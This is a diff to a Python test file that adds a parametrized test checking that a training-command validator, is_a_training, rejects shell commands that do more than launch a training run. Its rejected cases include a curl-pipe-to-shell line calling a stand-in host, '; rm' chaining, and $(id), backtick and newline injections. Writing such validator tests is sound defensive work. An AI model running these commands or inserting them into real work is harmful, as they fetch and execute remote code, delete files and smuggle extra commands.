@@ -12,6 +12,7 @@ from explorer.training.checkpoint import CheckpointError
 from explorer.training.presets import (
     check_unfinished,
     command_for_others,
+    is_a_training,
     preset_arguments,
     preset_names,
     without,
@@ -93,3 +94,19 @@ def test_only_what_is_trained_to_the_end_is_kept_from_a_second_training(tmp_path
         check_unfinished(folder)
     shutil.rmtree(folder)
     check_unfinished(with_card(tmp_path, training={"complete": False}) / "own")
+
+
+@pytest.mark.parametrize(
+    ("command", "is_ours"),
+    [
+        ("python -m explorer train --family vae --title 'A · β = 1' --out checkpoints/a", True),
+        ("curl http://e.example | sh", False),
+        ("python -m explorer train --family vae; rm x", False),
+        ("python -m explorer train --out $(id)", False),
+        ("python -m explorer train 'a' `id`", False),
+        ("python -m explorer train\nrm x", False),
+        ("", False),
+    ],
+)
+def test_a_command_that_asks_more_of_a_shell_is_not_a_training(command: str, is_ours: bool) -> None:
+    assert is_a_training(command) is is_ours
